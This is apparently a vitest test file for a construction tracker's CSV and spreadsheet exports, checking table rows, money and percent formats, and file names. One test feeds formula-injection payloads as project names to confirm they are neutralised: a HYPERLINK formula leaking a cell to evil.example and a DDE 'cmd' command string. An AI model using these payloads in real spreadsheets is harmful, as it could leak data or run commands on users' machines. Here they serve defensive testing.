import { describe, expect, it } from 'vitest';
import { TRACKER_FIGURE_COLUMNS } from './columns';
import { MONEY_FORMAT, overallTrackerTable, PERCENT_FORMAT, projectTrackerTable, toCsv, toSheetRows, exportFileName } from './export';
import { overall, tracker } from './fixtures';

const titles = TRACKER_FIGURE_COLUMNS.map((c) => c.title);

describe('tracker exports', () => {
  it('the project tracker table: a line per row, then the seven summary rows, figures as the API answered', () => {
    const t = tracker();
    const table = projectTrackerTable(t);
    expect(table.columns.map((c) => c.title)).toEqual(['Cost Code', 'Trade', ...titles]);
    expect(table.rows).toHaveLength(3 + 7);
    expect(table.rows[0]).toEqual(['09-2900', 'Gypsum Board – 5/8" Type X board', ...TRACKER_FIGURE_COLUMNS.map((c) => t.rows[0].figures[c.key])]);
    expect(table.rows.slice(3).map((r) => r[1])).toEqual([
      'Total Direct Trades', 'General Conditions', 'Overhead', 'Contractor Fee', 'Expected Overhead', 'Buyout Savings', 'Project Total',
    ]);
    // A one-figure summary row carries its amount under Total Revenue, and what it billed and received (docs/money.md
    // §12: the Project Total's are line 4 and Σ payments), nothing else.
    const projectTotal = table.rows.at(-1)!;
    expect(projectTotal[2 + titles.indexOf('Total Revenue')]).toBe('76140.00');
    expect(projectTotal[2 + titles.indexOf('Billing To Date')]).toBe('8770.00');
    expect(projectTotal.filter((v) => v !== null && v !== '')).toEqual(['Project Total', '76140.00', '8770.00', '7016.00']);
    expect(table.rows.at(-4)!.filter((v) => v !== null && v !== '')).toEqual(['Contractor Fee', '6300.00', '3150.00', '2520.00']);
    expect(table.rows.at(-3)!.filter((v) => v !== null && v !== '')).toEqual(['Expected Overhead', '11400.00']);
  });

  it('CSV: header, quoted fields where needed, the same figures', () => {
    const csv = toCsv(projectTrackerTable(tracker()));
    const lines = csv.trimEnd().split('\r\n');
    expect(lines[0]).toBe(['Cost Code', 'Trade', ...titles].join(','));
    expect(lines[1]).toBe('09-2900,"Gypsum Board – 5/8"" Type X board",48200.00,0.00,48200.00,2400.00,50600.00,45900.00,0.00,0.00,45900.00,21000.00,'
      + '48900.00,1700.00,0.00,0.00,21000.00,-21000.00,42.94,50600.00,27900.00,22700.00');
    expect(lines.at(-1)).toBe(`,Project Total,,,,,76140.00${','.repeat(8)}8770.00,7016.00${','.repeat(6)}`);
    expect(toCsv({ columns: [{ title: 'Trade', kind: 'text' }], rows: [['5/8" board, Type X']] })).toBe('Trade\r\n"5/8"" board, Type X"\r\n');
  });

  it('CSV: a project or trade name that would run as a formula is written as text (docs/architecture.md §5.2); negative figures stay numbers', () => {
    const o = overall();
    const hostile = overall({
      projects: [
        { ...o.projects[0], projectName: '=HYPERLINK("http://evil.example/?"&A1,"Open")' },
        { ...o.projects[1], projectName: "=cmd|' /C calc'!A0" },
      ],
    });
    const lines = toCsv(overallTrackerTable(hostile)).split('\r\n');
    expect(lines[1]).toMatch(/^DC_1007,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""Open""\)",/);
    expect(lines[2]).toMatch(/^DC_1009,"'=cmd\|' \/C calc'!A0",/);
    const t = tracker();
    const trades = toCsv(projectTrackerTable({ ...t, rows: [{ ...t.rows[0], trade: '+1+cmd|x', part: null, position: null }] }));
    expect(trades.split('\r\n')[1]).toMatch(/^09-2900,"'\+1\+cmd\|x",48200\.00,/);
    expect(trades.split('\r\n')[1]).toContain(',-21000.00,');
  });

  it('workbook: a name that looks like a formula stays a text cell, never a formula (docs/architecture.md §5.2)', () => {
    const o = overall();
    const name = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
    const sheet = toSheetRows(overallTrackerTable(overall({ projects: [{ ...o.projects[0], projectName: name }] })));
    expect(sheet[1][1]).toEqual({ t: 's', v: name });
  });

  it('workbook cells: text cells, number cells with money and percent formats equal to the figures', () => {
    const sheet = toSheetRows(projectTrackerTable(tracker()));
    expect(sheet[0][2]).toEqual({ t: 's', v: 'Final Run' });
    expect(sheet[1][0]).toEqual({ t: 's', v: '09-2900' });
    expect(sheet[1][2]).toEqual({ t: 'n', v: 48200, z: MONEY_FORMAT });
    expect(sheet[1][2 + titles.indexOf('Net Profit To Date')]).toEqual({ t: 'n', v: -21000, z: MONEY_FORMAT });
    expect(sheet[1][2 + titles.indexOf('Percent Complete')]).toEqual({ t: 'n', v: 42.94, z: PERCENT_FORMAT });
    const last = sheet.at(-1)!;
    expect(last[1]).toEqual({ t: 's', v: 'Project Total' });
    expect(last[2 + titles.indexOf('Total Revenue')]).toEqual({ t: 'n', v: 76140, z: MONEY_FORMAT });
    expect(last[2]).toBeNull();
  });

  it('the overall table: a line per project, then the four total rows of docs/projects.md §2.12', () => {
    const table = overallTrackerTable(overall());
    expect(table.columns.slice(0, 2).map((c) => c.title)).toEqual(['Project ID', 'Project Name']);
    expect(table.rows.map((r) => r[1])).toEqual(['Main Street', 'Harbor Clinic', 'Total Direct Trades', 'General Conditions', 'Procurement Fees', 'Project Cost']);
    expect(table.rows[1][0]).toBe('DC_1009');
    expect(table.rows.at(-1)![2 + titles.indexOf('Total Revenue')]).toBe('84140.00');
  });

  it('file names keep letters, digits, dash and underscore', () => {
    expect(exportFileName('project-tracker', 'DC_1007')).toBe('project-tracker-DC_1007');
    expect(exportFileName('project-tracker', 'A B/1')).toBe('project-tracker-A_B_1');
  });
});
